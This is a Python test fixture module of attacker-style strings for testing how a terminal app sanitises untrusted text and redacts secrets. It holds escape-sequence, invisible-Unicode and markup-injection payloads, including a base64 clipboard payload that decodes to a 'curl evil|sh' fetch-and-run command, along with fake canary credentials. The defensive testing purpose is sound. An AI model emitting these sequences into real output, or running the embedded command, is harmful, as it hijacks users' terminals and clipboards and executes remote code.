"""Text as an attacker writes it into a name, a log line or a user agent. Each is one class of attack."""

from __future__ import annotations

TERMINAL = {
    "sgr": "A\x1b[31mHIT\x1b[0mB",
    "clear": "A\x1b[2J\x1b[HHIT",
    "osc52-bel": "A\x1b]52;c;Y3VybCBldmlsfHNo\x07HIT",
    "osc52-st": "A\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\HIT",
    "osc8": "A\x1b]8;;http://evil.example/\x1b\\HIT\x1b]8;;\x1b\\B",
    "title": "A\x1b]0;OWNED\x07HIT",
    "dcs": "A\x1bP+q544e\x1b\\HIT",
    "c1": "A\x9b31mHIT\x9d0;OWNED\x9cB",
    "backspace": "A\x08\x08HIT\x7fB",
    "carriage": "AAA\rHIT",
    "shift-out": "A\x0eHIT\x0f",
    "lines": "A\nHIT\x0b\x0c\u0085\u2028\u2029B",
    "tab": "A\tHIT",
    "nul": "A\x00HIT\x00B",
}
UNSEEN = {
    "bidi": "A\u202eTIH\u202c\u2066B\u2069\u200f\u061c",
    "zero-width": "A\u200b\u200d\u2060\ufeffHIT",
    "tags": "A\U000e0041\U000e0042HIT",
    "soft-hyphen": "A\u00adHIT",
    "filler": "A\u3164\u115f\uffa0HIT",
    "variation": "A\ufe0f\U000e0100HIT",
    "surrogate": "A\ud800HIT",
    "private": "A\ue000\uf8ff\U00100000HIT",
}
SHAPE = {
    "zalgo": "Ae" + "\u0301" * 200 + "HIT",
    "wide": "漢字" * 40 + "HIT",
    "emoji": "👩‍👩‍👧‍👦" * 5 + "🏳️‍🌈HIT",
    "long": "A" * 9000 + "HIT",
}
MARKUP = {
    "style": "A[bold red]HIT[/]B",
    "click": "A[@click=app.exit]HIT[/]B",
    "link": "A[link=http://evil.example/]HIT[/link]B",
    "closing": "A[/ B",
    "closing-all": "A[/]B",
    "unclosed": "A[b B",
    "python": "{0.__class__} %s %(x)s ${HOME}",
}
ALL = TERMINAL | UNSEEN | SHAPE | MARKUP

FORBIDDEN = (
    [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
    + [chr(code) for code in (0xAD, 0x61C, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F))]
    + [chr(code) for code in (*range(0x2060, 0x2070), 0xFEFF, 0xD800, 0xDFFF, 0xE000, 0xF8FF, 0xE0041, 0x100000)]
)
"""Characters that may stand in no drawn text."""

CANARIES = {
    "jwt": "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQifQ.c2lnbmF0dXJlQ0FOQVJZ",
    "aws": "AKIACANARYCANARY1234",
    "github": "ghp_CANARYcanaryCANARYcanaryCANARYcanary12",
    "gitlab": "glpat-CANARYcanary123456789",
    "slack": "xoxb-CANARY-1234567890-canary",
    "google": "AIzaCANARYcanaryCANARYcanaryCANARYcanary12",
    "bootstrap": "canary.0123456789abcdef",
    "pem": "-----BEGIN RSA PRIVATE KEY-----\nQ0FOQVJZQ0FOQVJZ\nQ0FOQVJZ\n-----END RSA PRIVATE KEY-----",
    "jwt-base64": "ZXlKaGJHY2lPaUpTVXpJMU5pSjkuZXlKemRXSWlPaUpEUVU1QlVsa2lmUQ==",
    "kubeconfig-base64": "YXBpVmVyc2lvbjogdjEKa2luZDogQ29uZmlnCnVzZXJzOiBb",
    "pem-base64": "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpDQU5BUlk=",
}
"""Planted secrets that a pattern knows by themselves."""

PLACES = {
    "Authorization: Bearer canaryCANARYcanary99": "canaryCANARYcanary99",
    "Authorization: Basic Y2FuYXJ5OmNhbmFyeQ==": "Y2FuYXJ5OmNhbmFyeQ==",
    "postgres://admin:canaryCANARY@db.shop/orders": "canaryCANARY",
    "DB_PASSWORD=canaryCANARY": "canaryCANARY",
    '{"password": "canaryCANARY"}': "canaryCANARY",
    "/api/v1/namespaces/shop/pods/web/exec?command=mysql&command=--password%3DcanaryCANARY": "canaryCANARY",
    "api_key: canaryCANARY": "canaryCANARY",
    "export AWS_SECRET_ACCESS_KEY=canaryCANARY": "canaryCANARY",
    "client-secret='canaryCANARY'": "canaryCANARY",
    "mysqldump --password canaryCANARY shop": "canaryCANARY",
    "exec?command=mysql&command=--password&command=canaryCANARY": "canaryCANARY",
    "key=-----BEGIN%20RSA%20PRIVATE%20KEY-----%0AcanaryCANARY%0A-----END%20RSA%20PRIVATE%20KEY-----": "canaryCANARY",
}
"""Text around a secret -> the secret."""
